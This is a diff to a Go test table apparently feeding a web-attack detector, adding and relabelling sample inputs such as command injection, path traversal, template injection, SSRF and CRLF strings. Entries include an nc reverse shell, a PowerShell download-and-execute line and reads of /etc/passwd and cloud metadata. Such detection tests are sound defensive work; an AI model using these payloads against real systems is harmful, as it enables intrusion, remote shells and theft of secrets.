@@ -64,11 +64,15 @@ var crsAttacks = map[string]crsCase{
 	"cmdi invoke-expression": {in: "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')", reasons: ReasonShellInjection},
 	"cmdi windows cmd":       {in: "& cmd.exe /c whoami", reasons: ReasonShellInjection},
 	"cmdi nc reverse":        {in: "; nc -e /bin/sh 10.0.0.1 4444", reasons: ReasonShellInjection},
+	"cmdi amp ping":          {in: "& ping -c 10 127.0.0.1 &", reasons: ReasonShellInjection},
+	"cmdi php system":        {in: ";system('id')", reasons: ReasonShellInjection},
 
 	// Path traversal and file access.
 	"lfi windows backslash": {in: `..\..\windows\win.ini`, reasons: ReasonPathTraversal},
 	"lfi tomcat":            {in: "/..;/manager/html", reasons: ReasonPathTraversal},
 	"lfi file scheme":       {in: "file:///etc/passwd", reasons: ReasonPathTraversal + "|" + ReasonSSRF},
+	"lfi web-inf":           {in: "../WEB-INF/web.xml", reasons: ReasonPathTraversal},
+	"lfi git head":          {in: ".git/HEAD", reasons: ReasonPathTraversal},
 
 	// New families.
 	"jndi ldap":         {in: "${jndi:ldap://x/a}", reasons: ReasonJNDI},
@@ -77,7 +81,7 @@ var crsAttacks = map[string]crsCase{
 	"ssti arithmetic":   {in: "{{7*7}}", reasons: ReasonSSTI},
 	"ssti jinja class":  {in: "{{''.__class__.__mro__[1].__subclasses__()}}", reasons: ReasonSSTI},
 	"ssti erb":          {in: "<%= 7*7 %>", reasons: ReasonSSTI},
-	"ssti spring":       {in: "${T(java.lang.Runtime).getRuntime().exec('id')}", reasons: ReasonSSTI + "|" + ReasonDeserialization},
+	"ssti spring":       {in: "${T(java.lang.Runtime).getRuntime().exec('id')}", reasons: ReasonSSTI + "|" + ReasonDeserialization + "|" + ReasonShellInjection},
 	"ssti ruby":         {in: "#{7*7}", reasons: ReasonSSTI},
 	"nosqli key ne":     {in: "u_id[$ne]", key: true, reasons: ReasonNoSQLi},
 	"nosqli key gt":     {in: "password[$gt]", key: true, reasons: ReasonNoSQLi},
@@ -91,6 +95,7 @@ var crsAttacks = map[string]crsCase{
 	"ssrf decimal ip":   {in: "http://2852039166/latest/meta-data/", reasons: ReasonSSRF},
 	"ssrf hex ip":       {in: "http://0x7f000001/admin", reasons: ReasonSSRF},
 	"ssrf ipv6 aws":     {in: "http://[fd00:ec2::254]/latest/", reasons: ReasonSSRF},
+	"ssrf redis":        {in: "http://127.0.0.1:6379/", reasons: ReasonSSRF},
 	"crlf set-cookie":   {in: "%0d%0aSet-Cookie:%20a=b", reasons: ReasonCRLF},
 	"crlf location":     {in: "x\r\nLocation: http://evil/", reasons: ReasonCRLF},
 	"php filter":        {in: "php://filter/convert.base64-encode/resource=index.php", reasons: ReasonPHPWrapper},
